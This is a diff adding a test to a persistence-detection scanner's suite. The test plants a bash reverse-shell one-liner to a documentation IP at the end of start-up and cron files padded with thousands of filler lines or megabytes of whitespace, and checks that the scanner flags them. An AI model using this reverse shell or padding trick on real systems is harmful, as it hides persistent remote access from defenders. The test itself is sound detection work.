@@ -98,6 +98,18 @@ def test_what_packages_and_people_have_in_these_places_is_quiet() -> None:
     assert [item for item in found(persistence_rules.started, builder) if item[1] not in ("low", "info")] == []
 
 
+def test_padding_hides_no_command_in_a_start_file() -> None:
+    """ATT&CK T1027.001: thousands of harmless lines before the one that matters."""
+    shell = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
+    builder = Builder().add("/root/.bashrc", ("true\n" * 5_000 + shell).encode())
+    builder.add("/etc/profile.d/a.sh", ("true\n" * 30_000 + shell).encode())
+    builder.add("/etc/cron.daily/a", (" " * (5 << 20) + "\n" + shell).encode(), mode=0o755)
+    found = [*persistence_rules.started(builder.tree()), *persistence_rules.cron(builder.tree())]
+    assert any(f.source == "/root/.bashrc" and f.severity in ("high", "critical") for f in found)
+    large = {f.source for f in found if "too large to be judged whole" in f.title and f.severity == "medium"}
+    assert large == {"/etc/profile.d/a.sh", "/etc/cron.daily/a"}
+
+
 def test_added_log_in_modules_and_authorities() -> None:
     builder = Builder().add("/var/lib/dpkg/info/x.list", b"/usr/bin/bash\n")
     builder.add("/usr/lib/x86_64-linux-gnu/security/pam_evil.so", b"\x7fELF")
